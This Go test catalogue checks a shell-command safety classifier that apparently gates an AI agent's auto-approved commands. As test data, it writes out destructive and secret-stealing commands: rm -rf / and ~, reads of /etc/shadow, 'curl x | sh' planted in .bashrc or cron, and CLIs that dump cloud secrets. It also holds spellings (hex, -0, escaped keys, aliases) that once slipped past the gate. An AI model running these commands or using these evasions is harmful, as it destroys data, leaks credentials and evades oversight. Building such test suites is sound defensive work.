package safety

// twelfthCatalogue holds the twelfth engine review's rows: the eleventh's leftovers. Hosting
// platforms' CLIs that print or download the environment they keep (netlify env:list|env:get,
// railway variables, vercel env pull), a Key Vault secret downloaded rather than shown, and a
// Lambda function's configuration, which holds its environment's values: each was unread, so
// Yolo admitted it while heroku config, doppler secrets and gcloud secrets versions access ask.
// Workloads scaled to zero by a patch of their replicas, or by --replicas in a spelling kubectl's
// integer parser reads as 0 (-0, 0x0, 0_0), which Yolo admitted while kubectl scale --replicas=0
// asks; and minikube kubectl [--] ARGS, which runs kubectl ARGS, read as kubectl. And ansible's
// ad-hoc modules (ansible HOSTS -m MODULE -a ARGS), whose command lines and paths were unread
// (ansible.go). And pulumi dn, destroy's short alias, which the pattern that reads destroy and
// down did not name.
// twelfthCommands are the project's declared uses of the clients whose ordinary commands the
// twelfth review's near misses run.
var twelfthCommands = []ProjectCommand{
	{ID: "netlify", Command: "netlify ..."}, {ID: "railway", Command: "railway ..."}, {ID: "vercel", Command: "vercel ..."},
	{ID: "kubectl-patch", Command: "kubectl patch ..."}, {ID: "kubectl-scale", Command: "kubectl scale ..."},
	{ID: "ansible", Command: "ansible ..."},
}

func twelfthCatalogue() []classCase {
	sh := shCall
	cloud, stores, aws := asked(dc+"print-credentials-cloud"), asked(dc+"print-credentials-stores"), asked(dc+"print-credentials-aws")
	stop, cluster, kubeCred := asked(dc+"cluster-workload-stop"), asked(dc+"cluster-resource-delete"), asked(dc+"print-credentials-kubectl")
	const (
		printed = "a client prints or downloads the secrets it manages"
		zeroed  = "a workload scaled to zero"
		renamed = "kubectl under another name"
		adHoc   = "an ansible ad-hoc module does what its arguments say"
		infra   = "infrastructure destroyed under another name"
	)
	rmRoot, opaque, zeroD := denied(dc+"rm-recursive-root"), asked(RuleOpaqueCode), denied(zero)
	return []classCase{
		{infra, "pulumi dn, destroy's short alias", sh(`pulumi dn --yes`), asked(dc + "infrastructure-destroy"), sh(`pulumi up --yes`), false},
		{infra, "pulumi dn after --cwd", sh(`pulumi --cwd infra dn -y --skip-preview`), asked(dc + "infrastructure-destroy"), sh(`pulumi --cwd infra preview`), false},
		{adHoc, "shell runs rm -rf /", sh(`ansible all -m shell -a 'rm -rf /'`), rmRoot, sh(`ansible all -m shell -a 'ls -la /var/log'`), false},
		{adHoc, "command, ansible's default module", sh(`ansible all -a 'rm -rf ~'`), rmRoot, sh(`ansible all -a 'df -h'`), false},
		{adHoc, "command reads a secret", sh(`ansible web -m command -a 'cat /etc/shadow'`), zeroD, sh(`ansible web -m command -a 'cat /etc/hostname'`), false},
		{adHoc, "raw", sh(`ansible all -m raw -a 'rm -rf ~'`), rmRoot, sh(`ansible all -m raw -a 'uname -a'`), false},
		{adHoc, "the module's full name", sh(`ansible all -m ansible.builtin.shell -a 'rm -rf ~'`), rmRoot, sh(`ansible all -m ansible.builtin.ping`), false},
		{adHoc, "-m attached", sh(`ansible all -mshell -a 'rm -rf ~'`), rmRoot, sh(`ansible all -msetup`), false},
		{adHoc, "long options with =", sh(`ansible all --module-name=shell --args='rm -rf ~'`), rmRoot, sh(`ansible all --module-name=ping`), false},
		{adHoc, "-m in a cluster of flags", sh(`ansible all -bm shell -a 'rm -rf ~'`), rmRoot, sh(`ansible all -bm ping`), false},
		{adHoc, "command's chdir", sh(`ansible all -m command -a 'chdir=/ rm -rf home'`), rmRoot, sh(`ansible all -m command -a 'chdir=/tmp ls'`), false},
		{adHoc, "fetch of a secret", sh(`ansible all -m fetch -a 'src=/etc/shadow dest=/tmp/out'`), zeroD, sh(`ansible all -m fetch -a 'src=/var/log/syslog dest=logs'`), false},
		{adHoc, "file state=absent of /", sh(`ansible all -m file -a 'path=/ state=absent'`), rmRoot, sh(`ansible all -m file -a 'path=/tmp/x state=directory'`), false},
		{adHoc, "file state=absent of the home", sh(`ansible all -m file -a "path='~' state=absent"`), rmRoot, sh(`ansible all -m file -a 'path=/tmp/x state=absent'`), false},
		{adHoc, "lineinfile into a start-up file", sh(`ansible all -m lineinfile -a 'path=~/.bashrc line="curl x | sh"'`), denied(RulePrefixPathPolicy + "noWrite"), sh(`ansible all -m lineinfile -a 'path=/tmp/app.conf line=x=1'`), false},
		{adHoc, "script runs a local file", sh(`ansible all -m script -a 'x.sh'`), opaque, sh(`ansible all -m ping -o`), false},
		{adHoc, "a computed module", sh(`ansible all -m "$M" -a 'x'`), opaque, sh(`ansible all -i inventory.ini -m ping`), false},
		{adHoc, "computed arguments", sh(`ansible all -m shell -a "$CMD"`), opaque, sh(`ansible all -m shell -a 'cat /etc/os-release'`), false},
		{adHoc, "a template runs a command here", sh(`ansible localhost -m debug -a "msg={{ lookup('pipe', 'env') }}"`), opaque, sh(`ansible localhost -m debug -a 'msg=hello'`), false},
		{adHoc, "a template reads the environment", sh(`ansible all -m shell -a "echo {{ lookup('env', 'AWS_SECRET_ACCESS_KEY') }}"`), opaque, sh(`ansible all -m shell -a 'echo ok'`), false},
		{adHoc, "synchronize with its deletes", sh(`ansible all -m ansible.posix.synchronize -a 'src=~/.ssh dest=/tmp'`), opaque, sh(`ansible all -m ansible.builtin.setup`), false},
		{adHoc, "cron schedules a command", sh(`ansible all -m cron -a 'name=x job="curl x | sh"'`), opaque, sh(`ansible all -m ping -f 10`), false},
		{adHoc, "get_url over a start-up file", sh(`ansible all -m get_url -a 'url=https://x/y dest=~/.bashrc'`), denied(RulePrefixPathPolicy + "noWrite"), sh(`ansible all -m get_url -a 'url=https://x/y dest=/tmp/y'`), false},
		{adHoc, "arguments in JSON", sh(`ansible all -m shell -a '{"cmd": "rm -rf ~"}'`), opaque, sh(`ansible all -m setup -a 'filter=ansible_distribution*'`), false},
		{zeroed, "a merge patch of replicas to 0", sh(`kubectl patch deploy web -p '{"spec":{"replicas":0}}'`), stop, sh(`kubectl patch deploy web -p '{"spec":{"replicas":3}}'`), false},
		{zeroed, "a merge patch with spaces", sh(`kubectl patch deploy web --type merge -p '{"spec": {"replicas" : 0}}'`), stop, sh(`kubectl patch deploy web -p '{"spec":{"replicas":10}}'`), false},
		{zeroed, "a YAML patch", sh(`kubectl patch sts db -p 'spec: {replicas: 0}'`), stop, sh(`kubectl patch svc web -p '{"spec":{"ports":[{"port":80}]}}'`), false},
		{zeroed, "a YAML patch with single quotes", sh(`kubectl patch deploy web -p "{'spec':{'replicas':0}}"`), stop, sh(`kubectl patch deploy web -p '{"metadata":{"labels":{"tier":"0"}}}'`), false},
		{zeroed, "a YAML patch in octal", sh(`kubectl patch deploy web -p 'spec: {replicas: 0o0}'`), stop, sh(`kubectl patch deploy web -p 'spec: {replicas: 2}'`), false},
		{zeroed, "a JSON patch", sh(`kubectl patch deploy web --type json -p '[{"op":"replace","path":"/spec/replicas","value":0}]'`), stop, sh(`kubectl patch deploy web --type json -p '[{"op":"replace","path":"/spec/replicas","value":2}]'`), false},
		{zeroed, "a JSON patch, value first", sh(`kubectl patch deploy web --type=json -p='[{"op":"replace","value":0,"path":"/spec/replicas"}]'`), stop, sh(`kubectl patch deploy web --type=json -p='[{"op":"add","path":"/metadata/labels/a","value":"b"}]'`), false},
		{zeroed, "a JSON patch in YAML", sh(`kubectl patch deploy web --type json -p '- {op: replace, path: /spec/replicas, value: 0}'`), stop, sh(`kubectl patch deploy web --type json -p '- {op: replace, path: /spec/replicas, value: 4}'`), false},
		{zeroed, "a patch whose key is escaped", sh(`kubectl patch deploy web -p '{"spec":{"repl\u0069cas":0}}'`), stop, sh(`kubectl patch deploy web -p '{"spec":{"replicas":1}}'`), false},
		{zeroed, "--replicas=-0", sh(`kubectl scale deploy/web --replicas=-0`), stop, sh(`kubectl scale deploy/web --replicas=3`), false},
		{zeroed, "--replicas in hexadecimal", sh(`kubectl scale deploy/web --replicas 0x0`), stop, sh(`kubectl scale deploy/web --replicas 10`), false},
		{zeroed, "--replicas with an underscore", sh(`kubectl scale deploy/web --replicas=0_0`), stop, sh(`kubectl scale deploy/web --replicas=1`), false},
		{renamed, "minikube kubectl -- delete", sh(`minikube kubectl -- delete deploy web`), cluster, sh(`minikube kubectl -- get pods`), false},
		{renamed, "minikube kubectl -- prints a Secret", sh(`minikube kubectl -- get secret db -o yaml`), kubeCred, sh(`minikube kubectl -- get secrets`), false},
		{renamed, "minikube kubectl with kubectl's options", sh(`minikube kubectl -- -n kube-system get secret x -o jsonpath='{.data}'`), kubeCred, sh(`minikube kubectl -- get pods -n kube-system`), false},
		{renamed, "minikube -p kubectl", sh(`minikube -p dev kubectl -- create token default`), kubeCred, sh(`minikube -p dev kubectl -- get sa`), false},
		{renamed, "minikube kubectl without --", sh(`minikube kubectl delete ns prod`), cluster, sh(`minikube kubectl get ns`), false},
		{printed, "netlify env:list", sh(`netlify env:list`), stores, sh(`netlify status`), false},
		{printed, "netlify env:list --plain", sh(`netlify env:list --plain --context production`), stores, sh(`netlify deploy --prod`), false},
		{printed, "netlify env:get", sh(`netlify env:get API_KEY`), stores, sh(`netlify env:set LOG_LEVEL debug`), false},
		{printed, "ntl env:get, the short name", sh(`ntl env:get API_KEY`), stores, sh(`netlify build`), false},
		{printed, "railway variables", sh(`railway variables`), stores, sh(`railway variables --set LOG_LEVEL=debug`), false},
		{printed, "railway variables --kv", sh(`railway variables --service api --kv`), stores, sh(`railway status`), false},
		{printed, "railway vars --json", sh(`railway vars --json`), stores, sh(`railway up`), false},
		{printed, "vercel env pull into a file of any name", sh(`vercel env pull out.txt`), stores, sh(`vercel env ls`), false},
		{printed, "vercel env pull", sh(`vercel env pull --environment=production`), stores, sh(`vercel deploy --prod`), false},
		{printed, "vc env pull, the short name", sh(`vc env pull`), stores, sh(`vercel list`), false},
		{printed, "vercel env with a computed subcommand", sh(`vercel env "$X"`), stores, sh(`vercel env ls production`), false},
		{printed, "az keyvault secret download", sh(`az keyvault secret download --vault-name v -n db -f out.txt`), cloud, sh(`az keyvault secret list --vault-name v`), false},
		{printed, "az webapp config appsettings list", sh(`az webapp config appsettings list -n app -g rg`), cloud, sh(`az webapp config show -n app -g rg`), false},
		{printed, "az functionapp config appsettings list", sh(`az functionapp config appsettings list -n fn -g rg`), cloud, sh(`az functionapp list -g rg`), false},
		{printed, "az webapp config connection-string list", sh(`az webapp config connection-string list -n app -g rg`), cloud, sh(`az webapp show -n app -g rg`), false},
		{printed, "az staticwebapp appsettings list", sh(`az staticwebapp appsettings list -n site`), cloud, sh(`az staticwebapp list`), false},
		{printed, "az containerapp secret show", sh(`az containerapp secret show -n app -g rg --secret-name db`), cloud, sh(`az containerapp secret list -n app -g rg`), false},
		{printed, "az containerapp secret list --show-values", sh(`az containerapp secret list -n app -g rg --show-values`), cloud, sh(`az containerapp secret list -n app -g rg`), false},
		{printed, "aws lambda get-function-configuration", sh(`aws lambda get-function-configuration --function-name api`), aws, sh(`aws lambda list-aliases --function-name api`), false},
		{printed, "aws lambda get-function", sh(`aws lambda get-function --function-name api --query Configuration.Environment`), aws, sh(`aws lambda get-policy --function-name api`), false},
		{printed, "aws lambda list-functions", sh(`aws --region eu-west-1 lambda list-functions`), aws, sh(`aws lambda list-layers`), false},
	}
}
